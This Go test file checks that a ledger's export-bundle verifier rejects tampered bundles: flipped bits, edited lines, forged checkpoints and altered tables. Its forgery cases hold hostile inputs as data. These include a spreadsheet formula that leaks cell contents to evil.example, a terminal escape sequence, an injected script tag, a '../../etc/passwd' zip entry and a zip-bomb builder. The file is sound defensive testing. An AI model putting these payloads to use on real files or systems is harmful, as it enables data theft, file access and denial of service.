package bundle_test

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"maps"
	"os"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/mod/sumdb/tlog"

	"nod/shared/domain"
	"nod/shared/ledger"
	"nod/shared/ledger/bundle"
)

// small is a log with one of each thing that a bundle is about.
func small() *world {
	w := &world{now: begin, group: domain.GrownUp, documents: map[string][]byte{}}
	w.charter = &domain.Charter{Now: begin, Mint: w.mint}
	w.setUp()
	a := w.person(1)
	a.open(time.Second)
	a.decide("", domain.Granted, domain.English)
	a.check("a1", domain.Outcome{Result: domain.Pass})
	return w
}

// word says what was found, in a word.
func word(err error) bundle.Kind {
	if f, ok := errors.AsType[*bundle.Fault](err); ok {
		return f.Kind
	}
	return bundle.Kind(fmt.Sprint(err))
}

// Every bit of every entry counts: with the manifest as it was, and with one that whoever
// changed the bundle has made to fit. What the log proves nothing of is left out of the
// second: the list of keys and the instructions.
//
// All 700,000 changes take many minutes: NOD_TEST_EVERY_BIT=1 tries them. Without it, it is
// one bit of every eighth byte, of every second one of the manifest, and of fewer of what is
// long and compared as a whole.
func TestEveryBitCounts(t *testing.T) {
	w := small()
	p := w.bundle(cut{})
	holds(t, zipped(p.entries()))
	files := p.entries()
	tries := make(chan []file, 64)
	var workers sync.WaitGroup
	for range runtime.GOMAXPROCS(0) {
		workers.Go(func() {
			for try := range tries {
				if _, err := verify(zipped(try), bundle.Options{}); err == nil {
					t.Error("a change was not found: " + difference(files, try))
				} else if _, typed := errors.AsType[*bundle.Fault](err); !typed {
					t.Errorf("%v: %s", err, difference(files, try))
				}
			}
		})
	}
	n := 0
	for i, f := range files {
		for at := range f.data {
			for bit := range 8 {
				every := 8
				switch f.name {
				case "manifest.json":
					every = 2
				case "report.html", "consents.jsonld": // they are long, and compared as a whole
					every = 64
				}
				if os.Getenv("NOD_TEST_EVERY_BIT") == "" && (at%every > 0 || bit != at/every%8) {
					continue
				}
				changed := slices.Clone(files)
				changed[i].data = slices.Clone(f.data)
				changed[i].data[at] ^= 1 << bit
				tries <- changed
				n++
				if i > 0 && f.name != "proof/keys" && f.name != "VERIFY.txt" {
					q := parts{maps.Clone(p.claims), changed[1:]}
					tries <- q.entries()
					n++
				}
			}
		}
	}
	close(tries)
	workers.Wait()
	t.Logf("%d changes", n)
}

func difference(was, is []file) string {
	for i := 1; i < len(is); i++ {
		for at := range is[i].data {
			if was[i].data[at] != is[i].data[at] {
				return fmt.Sprintf("%s, byte %d: %q", is[i].name, at, is[i].data[max(0, at-20):min(at+20, len(is[i].data))])
			}
		}
	}
	return string(is[0].data)
}

// forgery is a bundle that must not verify.
type forgery struct {
	made func() []byte
	want bundle.Kind
	with bundle.Options
}

// edited is a bundle of the whole log whose entries somebody edited, and made a manifest to
// fit.
func edited(edit func(p *parts)) func() []byte {
	return func() []byte {
		w := newWorld()
		p := w.bundle(cut{})
		edit(&p)
		return zipped(p.entries())
	}
}

// lied is a bundle of a log that the operator wrote otherwise than the rules do, and sealed
// and signed.
func lied(edit func(w *world)) func() []byte {
	return func() []byte {
		w := newWorld()
		edit(w)
		p := w.bundle(cut{})
		return zipped(p.entries())
	}
}

// lines edits the lines and their places together.
func editLines(edit func(lines, places [][]byte) ([][]byte, [][]byte)) func(p *parts) {
	return func(p *parts) {
		text, where := p.get("records.ndjson"), p.get("proof/places")
		lines, places := edit(slices.Collect(bytes.Lines(text.data)), slices.Collect(slices.Chunk(where.data, 8)))
		text.data, where.data = bytes.Join(lines, nil), bytes.Join(places, nil)
		p.claims["records"] = len(lines)
		counts := map[string]int{}
		for _, line := range lines {
			l, _ := bundle.ParseLine(line)
			counts[l.Type]++
		}
		p.claims["counts"] = counts
		retable(p)
	}
}

func retable(p *parts) {
	defer func() { _ = recover() }() // a line that does not read has no row
	for _, f := range tables(p.get("records.ndjson").data, p.get("proof/places").data, false) {
		p.get(f.name).data = f.data
	}
}

// identified is a bundle with the platform's ids, one of which was written as this instead.
func identified(cell string) func() []byte {
	return func() []byte {
		w := newWorld()
		p := w.bundle(cut{subjects: true})
		replace("checks", ".csv", `"emp,""1"""`, cell)(&p)
		return zipped(p.entries())
	}
}

// retell derives what is told of the lines once more, as the claims are now.
func retell(p *parts) {
	graph, report := p.told()
	p.get("consents.jsonld").data, p.get("report.html").data = graph, report
}

// where is the first Record of a type, behind n others of it.
func (w *world) where(kind domain.RecordType, n int) int {
	for i, r := range w.records {
		if r.Type == kind {
			if n == 0 {
				return i
			}
			n--
		}
	}
	panic(kind)
}

func (w *world) first(kind domain.RecordType) *domain.Record { return w.records[w.where(kind, 0)] }

// put writes a Record in before place i.
func (w *world) put(i int, r domain.Record) {
	r.ID = w.mint()
	w.records = slices.Insert(w.records, i, &r)
}

func forgeries() map[string]forgery {
	all := map[string]forgery{}
	for _, some := range []map[string]forgery{editedForgeries(), liedForgeries(), packedForgeries(), claimedForgeries(), stampedForgeries()} {
		maps.Copy(all, some)
	}
	return all
}

func editedForgeries() map[string]forgery {
	other := bytes.Repeat([]byte{8}, 32)
	return map[string]forgery{
		"a line deleted with its place": {edited(editLines(func(l, p [][]byte) ([][]byte, [][]byte) {
			return slices.Delete(l, 20, 21), slices.Delete(p, 20, 21)
		})), bundle.NotCounted, bundle.Options{}},
		"a line deleted and said to be the filter's": {edited(func(p *parts) {
			editLines(func(l, p [][]byte) ([][]byte, [][]byte) { return slices.Delete(l, 20, 21), slices.Delete(p, 20, 21) })(p)
			p.claims["complete"] = false
		}), bundle.NotCounted, bundle.Options{}},
		"the last line deleted": {edited(func(p *parts) {
			editLines(func(l, p [][]byte) ([][]byte, [][]byte) { return l[:len(l)-1], p[:len(p)-1] })(p)
			p.claims["count"] = p.claims["records"]
		}), bundle.NotCounted, bundle.Options{}},
		"a dossier of less than the log": {edited(func(p *parts) {
			*p = newWorld().bundle(cut{subject: "7d1e0000000000000000000000000002"})
			p.claims["first"], p.claims["count"] = 1, p.claims["size"].(int)-1
		}), bundle.NotCounted, bundle.Options{}},
		"a line inserted": {edited(editLines(func(l, p [][]byte) ([][]byte, [][]byte) {
			return slices.Insert(l, 20, l[20]), slices.Insert(p, 20, p[20])
		})), bundle.NotCounted, bundle.Options{}},
		"a line inserted for another": {edited(editLines(func(l, p [][]byte) ([][]byte, [][]byte) {
			l[20] = l[21]
			return l, p
		})), bundle.NotInTheLog, bundle.Options{}},
		"two lines the other way round": {edited(editLines(func(l, p [][]byte) ([][]byte, [][]byte) {
			l[20], l[21] = l[21], l[20]
			return l, p
		})), bundle.NotInTheLog, bundle.Options{}},
		"two lines with their places the other way round": {edited(editLines(func(l, p [][]byte) ([][]byte, [][]byte) {
			l[20], l[21], p[20], p[21] = l[21], l[20], p[21], p[20]
			return l, p
		})), bundle.WrongPlaces, bundle.Options{}},
		"a line broken off": {edited(func(p *parts) {
			f := p.get("records.ndjson")
			f.data = f.data[:len(f.data)-1]
		}), bundle.NotARecord, bundle.Options{}},
		"a place beyond the log": {edited(func(p *parts) {
			f := p.get("proof/places")
			binary.BigEndian.PutUint64(f.data[len(f.data)-8:], 1<<63)
		}), bundle.WrongPlaces, bundle.Options{}},
		"a leaf hash changed": {edited(func(p *parts) { p.get("proof/leaves").data[7] ^= 1 }), bundle.WrongRoot, bundle.Options{}},
		"a line and its leaf hash changed": {edited(func(p *parts) {
			text, leaves := p.get("records.ndjson"), p.get("proof/leaves")
			text.data = bytes.Replace(text.data, []byte("check.failed"), []byte("check.passed"), 1)
			i := 0
			for line := range bytes.Lines(text.data) {
				h := tlog.RecordHash(line[:len(line)-1])
				copy(leaves.data[32*i:], h[:])
				i++
			}
			retable(p)
		}), bundle.WrongRoot, bundle.Options{}},
		"a checkpoint that another key signed": {edited(func(p *parts) {
			thief, err := ledger.NewNotary(other)
			must(err)
			f := p.get("proof/checkpoint")
			head, err := ledger.OpenCheckpoint(origin, f.data, key)
			must(err)
			f.data = signed(thief, origin, head.Size, head.Root)
		}), bundle.NotSigned, bundle.Options{}},
		"a checkpoint whose root was changed": {edited(func(p *parts) {
			f := p.get("proof/checkpoint")
			text := strings.Split(string(f.data), "\n")
			text[2] = "A" + text[2][1:]
			f.data = []byte(strings.Join(text, "\n"))
		}), bundle.NotSigned, bundle.Options{}},
		"a notice swapped":                      {edited(swap("notices/", "en.json")), bundle.OtherDocument, bundle.Options{}},
		"a notice changed":                      {edited(replace("notices/", "en.json", "I agree", "I gladly agree")), bundle.OtherDocument, bundle.Options{}},
		"a delegation changed":                  {edited(replace("delegations/", ".json", "safeguards", "nothing")), bundle.OtherDocument, bundle.Options{}},
		"an agreement changed":                  {edited(replace("delegations/", ".agreement", "agreement", "contract")), bundle.OtherDocument, bundle.Options{}},
		"a table's cell changed":                {edited(replace("checks", ".csv", "check.failed", "check.passed")), bundle.WrongTable, bundle.Options{}},
		"a table's row deleted":                 {edited(cutLine("consents.csv")), bundle.WrongTable, bundle.Options{}},
		"a table's row added":                   {edited(func(p *parts) { f := p.get("access.csv"); f.data = append(f.data, "x\r\n"...) }), bundle.WrongTable, bundle.Options{}},
		"a formula for a platform's id":         {identified(`"=HYPERLINK(""http://evil.example/?""&A1,""ok"")"`), bundle.WrongTable, bundle.Options{}},
		"a formula without quotes":              {identified("@SUM(A1)"), bundle.WrongTable, bundle.Options{}},
		"a formula in wide letters":             {identified("＝HYPERLINK(1)"), bundle.WrongTable, bundle.Options{}},
		"a formula behind a semicolon":          {identified("emp;=HYPERLINK(1)"), bundle.WrongTable, bundle.Options{}},
		"a platform's id quoted for nothing":    {identified(`"emp1"`), bundle.WrongTable, bundle.Options{}},
		"a platform's id of two cells":          {identified("emp,1"), bundle.WrongTable, bundle.Options{}},
		"a platform's id with a quote":          {identified(`emp"1`), bundle.WrongTable, bundle.Options{}},
		"a platform's id with quotes at odds":   {identified(`"emp"1"`), bundle.WrongTable, bundle.Options{}},
		"a platform's id with half a quote":     {identified(`"`), bundle.WrongTable, bundle.Options{}},
		"a platform's id of two lines":          {identified("\"emp\r\n=1\""), bundle.WrongTable, bundle.Options{}},
		"a platform's id that moves the cursor": {identified("emp\x1b[2K"), bundle.WrongTable, bundle.Options{}},
		"a platform's id that is no text":       {identified("emp\xff"), bundle.WrongTable, bundle.Options{}},
		"a platform's id without an end":        {identified(strings.Repeat("e", 1023)), bundle.WrongTable, bundle.Options{}},
		"a table with bare line ends": {edited(func(p *parts) {
			f := p.get("requests.csv")
			f.data = bytes.ReplaceAll(f.data, []byte("\r\n"), []byte("\n"))
		}), bundle.WrongTable, bundle.Options{}},
		"a consent for programs changed":        {edited(replace("consents", ".jsonld", "dpv:ConsentGiven", "dpv:ConsentRefused")), bundle.WrongTable, bundle.Options{}},
		"a consent for programs left out":       {edited(cutLine("consents.jsonld")), bundle.WrongTable, bundle.Options{}},
		"a notice for programs changed":         {edited(replace("consents", ".jsonld", `"A new contact"`, `"An old contact"`)), bundle.WrongTable, bundle.Options{}},
		"the consents for programs without end": {edited(func(p *parts) { f := p.get("consents.jsonld"); f.data = f.data[:len(f.data)-1] }), bundle.WrongTable, bundle.Options{}},
		"the consents for programs with more":   {edited(func(p *parts) { f := p.get("consents.jsonld"); f.data = append(f.data, '\n') }), bundle.WrongTable, bundle.Options{}},
		"a report that says otherwise":          {edited(replace("report", ".html", `<li class="good"><b>0</b>`, `<li class="good"><b>1</b>`)), bundle.WrongReport, bundle.Options{}},
		"a report that runs something":          {edited(replace("report", ".html", "</body>", "<script>1</script></body>")), bundle.WrongReport, bundle.Options{}},
		"a report of another log": {edited(func(p *parts) {
			w := small()
			other := w.bundle(cut{})
			p.get("report.html").data = other.get("report.html").data
		}), bundle.WrongReport, bundle.Options{}},
		"a report without its end": {edited(func(p *parts) { f := p.get("report.html"); f.data = f.data[:len(f.data)-1] }), bundle.WrongReport, bundle.Options{}},
		"no notice": {edited(func(p *parts) {
			p.files = slices.DeleteFunc(p.files, func(f file) bool { return strings.HasSuffix(f.name, "en.json") })
		}), bundle.Missing, bundle.Options{}},
		"a notice that nobody names": {edited(func(p *parts) {
			p.files = append(p.files, file{"notices/01920000-0000-7000-8000-00000000ffff.en.json", []byte("{}")})
		}), bundle.OtherDocument, bundle.Options{}},
	}
}

func (p *parts) find(prefix, suffix string) []*file {
	var found []*file
	for i := range p.files {
		if f := &p.files[i]; strings.HasPrefix(f.name, prefix) && strings.HasSuffix(f.name, suffix) {
			found = append(found, f)
		}
	}
	return found
}

func swap(prefix, suffix string) func(p *parts) {
	return func(p *parts) {
		f := p.find(prefix, suffix)
		f[0].data, f[1].data = f[1].data, f[0].data
	}
}

func replace(prefix, suffix, old, with string) func(p *parts) {
	return func(p *parts) {
		f := p.find(prefix, suffix)[0]
		was := f.data
		if f.data = bytes.Replace(f.data, []byte(old), []byte(with), 1); bytes.Equal(was, f.data) {
			panic(old)
		}
	}
}

func cutLine(name string) func(p *parts) {
	return func(p *parts) {
		f := p.get(name)
		lines := slices.Collect(bytes.Lines(f.data))
		f.data = bytes.Join(slices.Delete(lines, 1, 2), nil)
	}
}

// packedForgeries are about the zip.
func packedForgeries() map[string]forgery {
	repack := func(edit func(files []file) []file) func() []byte {
		return func() []byte {
			w := newWorld()
			p := w.bundle(cut{})
			return zipped(edit(p.entries()))
		}
	}
	return map[string]forgery{
		"no zip":            {func() []byte { return []byte("nothing") }, bundle.NotABundle, bundle.Options{}},
		"an empty zip":      {func() []byte { return zipped(nil) }, bundle.NotABundle, bundle.Options{}},
		"half a zip":        {func() []byte { b := edited(func(*parts) {})(); return b[:len(b)/2] }, bundle.NotABundle, bundle.Options{}},
		"an entry too many": {repack(func(f []file) []file { return append(f, file{"readme.txt", nil}) }), bundle.WrongEntries, bundle.Options{}},
		"an entry twice":    {repack(func(f []file) []file { return append(f, f[5]) }), bundle.WrongEntries, bundle.Options{}},
		"an entry missing":  {repack(func(f []file) []file { return slices.Delete(f, 5, 6) }), bundle.WrongEntries, bundle.Options{}},
		"a listed entry that no bundle has": {edited(func(p *parts) {
			p.files = append(p.files, file{"../../etc/passwd", nil})
		}), bundle.WrongEntries, bundle.Options{}},
		"a file that the manifest does not fit": {repack(func(f []file) []file {
			f[1].data = bytes.Replace(f[1].data, []byte("check.failed"), []byte("check.passed"), 1)
			return f
		}), bundle.Changed, bundle.Options{}},
		"a longer file than the manifest lists": {repack(func(f []file) []file {
			f[1].data = append(f[1].data, '\n')
			return f
		}), bundle.Changed, bundle.Options{}},
		"the manifest not first": {repack(func(f []file) []file { return append(f[1:], f[0]) }), bundle.NotABundle, bundle.Options{}},
		"the manifest spelled otherwise": {repack(func(f []file) []file {
			f[0].data = append([]byte(" "), f[0].data...)
			return f
		}), bundle.NotABundle, bundle.Options{}},
		"a zip bomb": {func() []byte { return bomb() }, bundle.TooLarge, bundle.Options{}},
	}
}

// bomb is a bundle whose records unpack to a thousand times their size.
func bomb() []byte {
	w := newWorld()
	p := w.bundle(cut{})
	p.get("records.ndjson").data = bytes.Repeat([]byte("a"), 64<<20)
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	z.RegisterCompressor(zip.Deflate, func(out io.Writer) (io.WriteCloser, error) { return flate.NewWriter(out, 9) })
	for _, f := range p.entries() {
		out, err := z.Create(f.name)
		must(err)
		_, err = out.Write(f.data)
		must(err)
	}
	must(z.Close())
	return b.Bytes()
}
